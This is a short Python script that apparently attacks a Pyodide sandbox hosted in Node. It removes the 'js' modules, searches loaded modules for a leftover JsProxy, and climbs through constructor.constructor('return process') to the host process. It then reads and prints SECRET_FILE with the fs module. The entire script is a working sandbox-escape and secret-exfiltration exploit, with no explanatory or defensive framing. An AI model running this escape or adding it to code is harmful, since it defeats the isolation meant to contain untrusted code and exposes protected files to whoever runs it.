"""Finds a JavaScript object that some module still holds, and climbs from it."""

import sys
from types import ModuleType

for name in ("js", "pyodide_js"):
    sys.modules.pop(name, None)
modules = [module for module in list(sys.modules.values()) if isinstance(module, ModuleType)]
values = [value for module in modules for value in list(vars(module).values())]
inside = [value for value in values if hasattr(value, "__dict__")]
values += [inner for value in inside for inner in vars(value).values()]
for proxy in values:
    if "JsProxy" not in str(type(proxy)) or isinstance(proxy, type):
        continue
    try:
        process = proxy.constructor.constructor("return process")()
        print(process.getBuiltinModule("fs").readFileSync(SECRET_FILE, "utf8"))
        break
    except Exception as error:
        print(type(error).__name__, error)
